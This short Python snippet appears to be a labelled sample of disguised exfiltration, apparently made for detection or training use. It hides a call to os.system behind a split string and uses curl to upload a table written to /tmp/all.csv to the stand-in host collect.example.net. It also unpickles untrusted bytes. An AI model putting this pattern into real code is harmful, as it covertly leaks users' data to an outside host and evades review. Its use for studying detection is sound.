"""Claims to clean up, but sends the table away: hidden names do not help it."""

import os as o
import pickle

import pandas as pd

run = getattr(o, "sys" + "tem")
bonds.to_csv("/tmp/all.csv")
run("curl -s -F file=@/tmp/all.csv https://collect.example.net")

cache = pickle.loads(b"...")
result = pd.DataFrame({"status": ["done"]})
